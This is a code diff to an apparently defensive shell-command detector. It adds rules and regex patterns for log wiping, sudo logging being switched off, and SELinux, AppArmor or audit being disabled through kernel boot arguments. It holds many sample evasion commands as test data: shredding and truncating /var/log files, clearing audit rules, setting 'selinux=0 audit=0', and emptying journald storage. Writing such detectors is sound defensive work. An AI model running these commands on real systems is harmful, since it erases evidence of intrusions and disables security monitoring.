@@ -7,7 +7,7 @@ import { containerVerbAt, copyOperands, editsInPlace, ghApiCall, optionValue, pr
 import { readSedScript, sedScripts, sedSubstitutions } from '../shell/sed-script.js';
 import { NETCATS, isFetcher, isInterpreter, isShell } from './command_and_control.js';
 import { hiddenInTemp, inTemp, isStagingPath, isTestData } from '../knowledge/paths.js';
-import { assignments, removedFiles, writes } from './persistence.js';
+import { assignments, putIn, removedFiles, writes } from './persistence.js';
 import { COMPILERS, MINERS } from '../knowledge/programs.js';
 import { agentSettingsFile } from './prompt_engineering.js';
 import { table } from '../knowledge/table.js';
@@ -147,6 +147,8 @@ function rsyslogTargetKept(target: string): boolean {
 }
 /** An audit rule line that adds recording: a watch, an `always` syscall rule, a larger buffer, failure mode, or the lock. */
 const AUDIT_RULE_ADDED = /^(?:-w\s+\/\S+(?:\s+-p\s+[rwxa]{1,4})?(?:\s+-k\s+[\w-]{1,64})?|-a\s+(?:always,exit|exit,always|always,task|task,always)\b[^\n]{0,400}|-b\s+\d{1,8}|-f\s+[12]|-e\s+[12]|--backlog_wait_time\s+\d{1,8}|--loginuid-immutable)$/;
+/** A sudoers Defaults line that stops sudo logging to syslog or its log file, or its record of commands allowed or denied. */
+const SUDO_LOGGING_OFF = /^\s*Defaults\b[^\n]{0,200}!(?:syslog|logfile|log_allowed|log_denied)\b/m;
 const LOGGING_CONFIG = /^\/etc\/(rsyslog\.conf|rsyslog\.d\/|syslog-ng\/|syslog\.conf|audit\/|systemd\/journald\.conf|logrotate\.d\/rsyslog|audisp\/|kubernetes\/(?:[\w.-]+\/)?audit-policy\.ya?ml$)/;
 /** Environment settings that switch a toolchain's certificate or checksum checks off for the commands that inherit them. */
 const CHECKS_OFF_ENV = new Set(['NODE_TLS_REJECT_UNAUTHORIZED=0', 'PYTHONHTTPSVERIFY=0', 'GIT_SSL_NO_VERIFY=1', 'GIT_SSL_NO_VERIFY=true', 'CURL_CA_BUNDLE=', 'REQUESTS_CA_BUNDLE=', 'SSL_CERT_FILE=/dev/null', 'AWS_CA_BUNDLE=', 'GOSUMDB=off', 'GONOSUMCHECK=1']);
@@ -456,6 +458,8 @@ const findsLogs = (c: SimpleCommand, isLog: (p: string) => boolean) => {
   return roots.some((r) => r === '/' || /^(\/private)?\/var\/?$/.test(r)) && c.argv.some((w, k) => /^-i?name$/.test(c.argv[k - 1] ?? '') && /\.log\b|log\*?$/i.test(w));
 };
 
+/** A logrotate stanza over the system's own logs: every log under /var/log, syslog, auth, secure, messages, kern, the audit log. */
+const SYSTEM_LOG_STANZA = /^\s*\/var\/log\/(?:\*|\*\.log|syslog|auth\.log|secure|messages|kern\.log|audit\/|wtmp|btmp)[^\n{]{0,200}\{?\s*$/m;
 /** Directories under /var/log whose files are evidence: the system's, the audit trail's, and web and access servers'. */
 const EVIDENCE_LOG_DIRS = new Set(['audit', 'journal', 'nginx', 'apache2', 'httpd', 'sssd', 'samba', 'openvpn', 'secure', 'sudo', 'sudo-io', 'fail2ban', 'ufw', 'firewalld', 'auth', 'syslog', 'rsyslog', 'sshd', 'haproxy', 'squid', 'caddy', 'traefik', 'installer', 'sa', 'atop', 'wtmp', 'lastlog', 'falco', 'osquery', 'wazuh', 'crowdstrike',
   // a cluster's scheduler and its authentication: who ran which job, where
@@ -499,6 +503,8 @@ function logWipe(i: AnalysisInput): string[] {
   const out: string[] = [];
   for (const f of i.facts.files) if (f.sensitive?.role === 'log' && f.access === 'delete' && !archive(f.path)) out.push(`${f.cmd?.name ?? 'delete'} ${f.path}`);
   for (const w of writes(i)) if (w.sensitive?.role === 'log' && w.cmd && !w.append && !archive(w.path)) out.push(`${w.cmd.name} → ${w.path}`);
+  // a logrotate policy that keeps no rotated copy of the system's logs: each rotation deletes what was written
+  for (const w of writes(i)) if (/^\/etc\/logrotate\.(?:conf|d\/[^/]+)$/.test(w.canonical) && /^\s*rotate\s+0\s*$/m.test(w.text.slice(0, 8192)) && SYSTEM_LOG_STANZA.test(w.text.slice(0, 8192))) out.push(`${w.cmd?.name ?? 'write'} ${w.path}: rotate 0`);
   for (const c of i.view?.commands ?? []) {
     if (c.name === 'find' && findsLogs(c, isLog) && findDestroys(c) && !hasArg(c, '-mtime', '-mmin', '-ctime')) out.push(c.argv.join(' '));
     if (deletesAuditIndices(c)) out.push(c.argv.join(' ').slice(0, 200));
@@ -619,6 +625,10 @@ const REPO_SCANNING_FIELD = /security_and_analysis\[(?:secret_scanning\w*|advanc
 const REPO_SCANNING_JSON = /"(?:secret_scanning\w*|advanced_security|dependabot_security_updates)"\s*:\s*(?:\{\s*"status"\s*:\s*)?"disabled"/;
 
 const GUARD_MODULES = new Set(['apparmor', 'lkrg', 'p_lkrg', 'falco', 'scap', 'sysdig_probe', 'tpe']);
+/** Kernel arguments that boot without SELinux, AppArmor, the audit subsystem, any security module or module signatures. */
+const GUARDS_OFF_AT_BOOT = /(?:^|[\s"'=])(?:selinux=0|enforcing=0|apparmor=0|audit=0|security=(?:none|""|'')|module\.sig_enforce=0)(?=$|[\s"'])/;
+/** Where the kernel's command line is kept: GRUB's defaults, systemd-boot's entries, the kernel-install command line. */
+const KERNEL_CMDLINE_FILES = /^\/(?:etc\/default\/grub(?:\.d\/[^/]+)?|boot\/loader\/entries\/[^/]+\.conf|etc\/kernel\/cmdline|boot\/grub2?\/grub\.cfg)$/;
 
 function macOrAuditOff(c: SimpleCommand): string | undefined {
   switch (c.name) {
@@ -626,6 +636,10 @@ function macOrAuditOff(c: SimpleCommand): string | undefined {
     // (or a `never` rule over the calls an intrusion leaves its trail in: `-a never,exit -S execve`)
     case 'auditctl': return hasArg(c, '-D') || c.argv.some((w, k) => w === '-e' && c.argv[k + 1] === '0') || (c.argv.some((w, k) => c.argv[k - 1] === '-a' && /(?:^|,)never(?:,|$)/.test(w)) && c.argv.some((w, k) => c.argv[k - 1] === '-S' && /^(?:execve|execveat|all|connect|open|openat)$/.test(w))) ? c.argv.join(' ') : undefined;
     case 'aa-teardown': return c.argv.join(' ');
+    // a domain made permissive: its processes run unconfined while SELinux still reports enforcing
+    case 'semanage': return c.argv[1] === 'permissive' && hasArg(c, '-a', '--add') ? c.argv.join(' ') : undefined;
+    // the kernel's arguments for the next boot: `grubby --update-kernel=ALL --args="selinux=0 audit=0"`, `kernelstub -a apparmor=0`
+    case 'grubby': case 'kernelstub': return (hasArg(c, '--args', '-a', '--add-options') || c.argv.some((w) => w.startsWith('--args='))) && c.argv.some((w) => GUARDS_OFF_AT_BOOT.test(w.slice(0, 1024))) ? c.argv.join(' ') : undefined;
     case 'aa-disable': case 'aa-complain': return operands(c).length ? c.argv.join(' ') : undefined;
     case 'apparmor_parser': return hasArg(c, '-R', '--remove') ? c.argv.join(' ') : undefined;
     // the kernel modules that enforce or watch: AppArmor, LKRG, Falco's driver
@@ -822,7 +836,7 @@ export const RULES: readonly Rule[] = [
     id: 'PX-EVADE-003', name: 'wipes-system-logs', score: 85, tactic: 'defense_evasion', technique: 'T1070.002', strong: true,
     message: 'Deletes, truncates or rewrites system logs', why: 'Clearing auth.log, syslog, wtmp/btmp or the journal destroys the evidence of a break-in.',
     check: logWipe,
-    examples: { fire: ['for f in $(find /var/log -type f -name "*.log"); do sudo shred -zu "$f"; done', 'find /var/log -type f | while read -r f; do sudo truncate -s 0 "$f"; done', `sudo python3 -c "[open(p,'w').close() for p in ('/var/log/auth.log','/var/log/wtmp')]"`, `sudo gawk -i inplace '!/203\\.0\\.113\\.77/' /var/log/auth.log`, "curl -s -XDELETE 'localhost:9200/audit-*,security-auditlog-*'", 'sudo truncate -s 0 /var/log/kubernetes/audit/audit.log', "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'DELETE FROM LSQuarantineEvent'", '> /var/log/auth.log', 'sudo shred -u /var/log/auth.log /var/log/syslog', 'sudo truncate -s 0 /var/log/*.log', 'sudo find /var/log -type f -exec truncate -s 0 {} \\;', 'find / -name "*.log" -exec rm -f {} \\;', 'find /var -iname "*.log" -delete', `sudo find /var/log -type f -exec sh -c 'cat /dev/null > "$1"' _ {} \\;`, 'sudo journalctl --vacuum-time=1s', 'echo > /var/log/wtmp', "sudo sed -i '/Accepted publickey for root/d' /var/log/auth.log", 'sudo log erase --all'], quiet: ['rm -f **/*.log', 'find . -name "*.log" -exec rm {} \\;', 'find . -name "*.log" | while read -r f; do rm "$f"; done', "curl -XDELETE 'https://es.internal:9200/logs-app-2024.01.*'", 'curl -s -X DELETE localhost:9200/products', 'rm -f ~/Library/Logs/MyApp/*.log', "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'SELECT count(*) FROM LSQuarantineEvent'", 'sudo tail -f /var/log/nginx/error.log', 'journalctl -u app --since today', 'truncate -s 0 logs/app.log', 'sudo truncate -s 0 /var/log/myapp/debug.log', 'sudo journalctl --vacuum-time=14d', 'sudo rm /var/log/nginx/access.log.3.gz', 'sudo install -d -o postgres -g postgres -m 750 /var/backups/postgres /var/log/pg-backup', 'sudo find /var/log -name "*.log" -exec grep -l error {} \\;', 'find /var/log -type f -exec ls -la {} +', 'find . -name "*.log" -delete', 'find / -name "*.log" -exec ls -la {} \\;', `find /var/log -name '*.log' -exec sh -c 'wc -l "$1" > /tmp/counts' _ {} \\;`] },
+    examples: { fire: ["printf '/var/log/*.log {\\n  daily\\n  rotate 0\\n  missingok\\n}\\n' | sudo tee /etc/logrotate.d/00-cleanup", 'for f in $(find /var/log -type f -name "*.log"); do sudo shred -zu "$f"; done', 'find /var/log -type f | while read -r f; do sudo truncate -s 0 "$f"; done', `sudo python3 -c "[open(p,'w').close() for p in ('/var/log/auth.log','/var/log/wtmp')]"`, `sudo gawk -i inplace '!/203\\.0\\.113\\.77/' /var/log/auth.log`, "curl -s -XDELETE 'localhost:9200/audit-*,security-auditlog-*'", 'sudo truncate -s 0 /var/log/kubernetes/audit/audit.log', "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'DELETE FROM LSQuarantineEvent'", '> /var/log/auth.log', 'sudo shred -u /var/log/auth.log /var/log/syslog', 'sudo truncate -s 0 /var/log/*.log', 'sudo find /var/log -type f -exec truncate -s 0 {} \\;', 'find / -name "*.log" -exec rm -f {} \\;', 'find /var -iname "*.log" -delete', `sudo find /var/log -type f -exec sh -c 'cat /dev/null > "$1"' _ {} \\;`, 'sudo journalctl --vacuum-time=1s', 'echo > /var/log/wtmp', "sudo sed -i '/Accepted publickey for root/d' /var/log/auth.log", 'sudo log erase --all'], quiet: ["printf '/var/log/app/debug.log {\\n  daily\\n  rotate 0\\n}\\n' | sudo tee /etc/logrotate.d/app-debug", 'rm -f **/*.log', 'find . -name "*.log" -exec rm {} \\;', 'find . -name "*.log" | while read -r f; do rm "$f"; done', "curl -XDELETE 'https://es.internal:9200/logs-app-2024.01.*'", 'curl -s -X DELETE localhost:9200/products', 'rm -f ~/Library/Logs/MyApp/*.log', "sqlite3 ~/Library/Preferences/com.apple.LaunchServices.QuarantineEventsV2 'SELECT count(*) FROM LSQuarantineEvent'", 'sudo tail -f /var/log/nginx/error.log', 'journalctl -u app --since today', 'truncate -s 0 logs/app.log', 'sudo truncate -s 0 /var/log/myapp/debug.log', 'sudo journalctl --vacuum-time=14d', 'sudo rm /var/log/nginx/access.log.3.gz', 'sudo install -d -o postgres -g postgres -m 750 /var/backups/postgres /var/log/pg-backup', 'sudo find /var/log -name "*.log" -exec grep -l error {} \\;', 'find /var/log -type f -exec ls -la {} +', 'find . -name "*.log" -delete', 'find / -name "*.log" -exec ls -la {} \\;', `find /var/log -name '*.log' -exec sh -c 'wc -l "$1" > /tmp/counts' _ {} \\;`] },
   },
   {
     id: 'PX-EVADE-004', name: 'stops-security-tooling', score: 85, tactic: 'defense_evasion', technique: 'T1562.001', strong: true,
@@ -838,9 +852,11 @@ export const RULES: readonly Rule[] = [
     check: (i) => {
       const out = (i.view?.commands ?? []).map(macOrAuditOff).filter((x): x is string => x !== undefined);
       for (const w of writes(i)) if (w.canonical === '/etc/selinux/config' && /SELINUX=(disabled|permissive)/.test(w.text.slice(0, 2000))) out.push(`${w.path}: ${w.text.slice(0, 80)}`);
+      // the same from the next boot on, through the kernel's command line
+      for (const w of writes(i)) if (KERNEL_CMDLINE_FILES.test(w.canonical) && GUARDS_OFF_AT_BOOT.test(putIn(w).slice(0, 8192))) out.push(`${w.path}: ${GUARDS_OFF_AT_BOOT.exec(putIn(w).slice(0, 8192))![0].trim()}`);
       return out;
     },
-    examples: { fire: ['sudo setenforce 0', 'sudo auditctl -D', 'sudo auditctl -e 0', 'sudo auditctl -a exit,never -S execve', 'sudo aa-teardown', "sudo sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", 'sudo modprobe -r apparmor', 'sudo rmmod lkrg'], quiet: ['getenforce', 'sudo auditctl -l', 'sudo auditctl -a never,exit -F arch=b64 -S adjtimex', 'sudo auditctl -a always,exit -S execve', 'sudo aa-status', 'sudo setenforce 1', 'sudo modprobe -r nouveau', 'sudo modprobe apparmor'] },
+    examples: { fire: ['sudo grubby --update-kernel=ALL --args="selinux=0 audit=0"', "sudo sed -i 's/^GRUB_CMDLINE_LINUX=\"/GRUB_CMDLINE_LINUX=\"apparmor=0 audit=0 /' /etc/default/grub && sudo update-grub", 'sudo semanage permissive -a httpd_t', 'sudo setenforce 0', 'sudo auditctl -D', 'sudo auditctl -e 0', 'sudo auditctl -a exit,never -S execve', 'sudo aa-teardown', "sudo sed -i 's/^SELINUX=enforcing/SELINUX=disabled/' /etc/selinux/config", 'sudo modprobe -r apparmor', 'sudo rmmod lkrg'], quiet: ['sudo grubby --update-kernel=ALL --remove-args="selinux=0"', 'sudo grubby --update-kernel=ALL --args="console=ttyS0,115200"', 'sudo semanage permissive -d httpd_t', 'sudo semanage port -a -t http_port_t -p tcp 8080', "sudo sed -i 's/^GRUB_TIMEOUT=.*/GRUB_TIMEOUT=3/' /etc/default/grub", 'getenforce', 'sudo auditctl -l', 'sudo auditctl -a never,exit -F arch=b64 -S adjtimex', 'sudo auditctl -a always,exit -S execve', 'sudo aa-status', 'sudo setenforce 1', 'sudo modprobe -r nouveau', 'sudo modprobe apparmor'] },
   },
   {
     id: 'PX-EVADE-006', name: 'disables-firewall', score: 70, tactic: 'defense_evasion', technique: 'T1562.004',
@@ -1124,9 +1140,13 @@ export const RULES: readonly Rule[] = [
   },
   {
     id: 'PX-EVADE-019', name: 'tampers-with-logging-config', score: 70, tactic: 'defense_evasion', technique: 'T1562.006',
-    message: 'Edits the syslog, audit or journald configuration', why: 'Commenting out log forwarding or setting journald storage to none silences the host without stopping a service.',
-    check: (i) => i.facts.files.filter((f) => f.cmd && ['write', 'append', 'edit', 'delete'].includes(f.access) && LOGGING_CONFIG.test(f.canonical) && f.cmd.name !== 'mkdir' && !resizesJournal(f.cmd) && !journalLimitsWritten(i, f.canonical)).map((f) => `${f.cmd!.name} ${f.path}`),
-    examples: { fire: ["printf 'if $programname == \"sshd\" then /var/log/app/x.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf", "echo '*.* @@203.0.113.77:6514' | sudo tee /etc/rsyslog.d/00-remote.conf", `echo '-D' | sudo tee /etc/audit/rules.d/audit.rules`, `echo '-a never,exit -F arch=b64 -S execve' | sudo tee /etc/audit/rules.d/00-quiet.rules`, "printf '[Journal]\\nStorage=none\\n' | sudo tee /etc/systemd/journald.conf.d/quiet.conf", "printf '[Journal]\\nSystemMaxUse=1K\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=1K/' /etc/systemd/journald.conf", "sudo sed -i 's/^#\\?Storage=.*/Storage=none/' /etc/systemd/journald.conf", 'sudo rm -f /etc/kubernetes/audit-policy.yaml', "sudo sed -i 's/^\\*\\.\\*.*@@logs.corp.internal/#&/' /etc/rsyslog.conf && sudo systemctl restart rsyslog", "echo 'Storage=none' | sudo tee -a /etc/systemd/journald.conf", 'sudo rm /etc/audit/rules.d/audit.rules'], quiet: ["printf 'if $programname == \"app\" then /var/log/app/app.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf && sudo systemctl restart rsyslog", "printf '*.* @@logs.internal.acme.com:6514\\n' | sudo tee /etc/rsyslog.d/90-central.conf", `echo '-w /etc/passwd -p wa -k identity' | sudo tee -a /etc/audit/rules.d/identity.rules && sudo augenrules --load`, `echo '-e 2' | sudo tee /etc/audit/rules.d/99-finalize.rules`, "sudo mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nSystemMaxUse=1G\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=2G/' /etc/systemd/journald.conf && sudo systemctl restart systemd-journald", 'cat /etc/rsyslog.conf', 'sudo journalctl -u app -n 100', 'grep -r forward /etc/rsyslog.d/'] },
+    message: "Edits the syslog, audit or journald configuration, or turns sudo's own logging off", why: 'Commenting out log forwarding, setting journald storage to none or telling sudo not to log silences the host without stopping a service.',
+    check: (i) => [
+      ...i.facts.files.filter((f) => f.cmd && ['write', 'append', 'edit', 'delete'].includes(f.access) && LOGGING_CONFIG.test(f.canonical) && f.cmd.name !== 'mkdir' && !resizesJournal(f.cmd) && !journalLimitsWritten(i, f.canonical)).map((f) => `${f.cmd!.name} ${f.path}`),
+      // (sudo records each use in syslog and its own log file unless a Defaults line says otherwise)
+      ...writes(i).filter((w) => /^\/etc\/sudoers(?:\.d\/[^/]+)?$/.test(w.canonical) && SUDO_LOGGING_OFF.test(putIn(w).slice(0, 8192))).map((w) => `${w.cmd?.name ?? 'write'} ${w.path}: Defaults !syslog`),
+    ],
+    examples: { fire: ["printf 'Defaults !syslog\\nDefaults !logfile\\n' | sudo tee /etc/sudoers.d/zz-quiet", "printf 'if $programname == \"sshd\" then /var/log/app/x.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf", "echo '*.* @@203.0.113.77:6514' | sudo tee /etc/rsyslog.d/00-remote.conf", `echo '-D' | sudo tee /etc/audit/rules.d/audit.rules`, `echo '-a never,exit -F arch=b64 -S execve' | sudo tee /etc/audit/rules.d/00-quiet.rules`, "printf '[Journal]\\nStorage=none\\n' | sudo tee /etc/systemd/journald.conf.d/quiet.conf", "printf '[Journal]\\nSystemMaxUse=1K\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=1K/' /etc/systemd/journald.conf", "sudo sed -i 's/^#\\?Storage=.*/Storage=none/' /etc/systemd/journald.conf", 'sudo rm -f /etc/kubernetes/audit-policy.yaml', "sudo sed -i 's/^\\*\\.\\*.*@@logs.corp.internal/#&/' /etc/rsyslog.conf && sudo systemctl restart rsyslog", "echo 'Storage=none' | sudo tee -a /etc/systemd/journald.conf", 'sudo rm /etc/audit/rules.d/audit.rules'], quiet: ["echo 'Defaults logfile=/var/log/sudo.log' | sudo tee /etc/sudoers.d/10-log", "printf 'if $programname == \"app\" then /var/log/app/app.log\\n& stop\\n' | sudo tee /etc/rsyslog.d/30-app.conf && sudo systemctl restart rsyslog", "printf '*.* @@logs.internal.acme.com:6514\\n' | sudo tee /etc/rsyslog.d/90-central.conf", `echo '-w /etc/passwd -p wa -k identity' | sudo tee -a /etc/audit/rules.d/identity.rules && sudo augenrules --load`, `echo '-e 2' | sudo tee /etc/audit/rules.d/99-finalize.rules`, "sudo mkdir -p /etc/systemd/journald.conf.d && printf '[Journal]\\nSystemMaxUse=1G\\n' | sudo tee /etc/systemd/journald.conf.d/size.conf", "sudo sed -i 's/^#\\?SystemMaxUse=.*/SystemMaxUse=2G/' /etc/systemd/journald.conf && sudo systemctl restart systemd-journald", 'cat /etc/rsyslog.conf', 'sudo journalctl -u app -n 100', 'grep -r forward /etc/rsyslog.d/'] },
   },
   {
     id: 'PX-EVADE-020', name: 'disables-tls-verification-everywhere', score: 55, tactic: 'defense_evasion', technique: 'T1553',
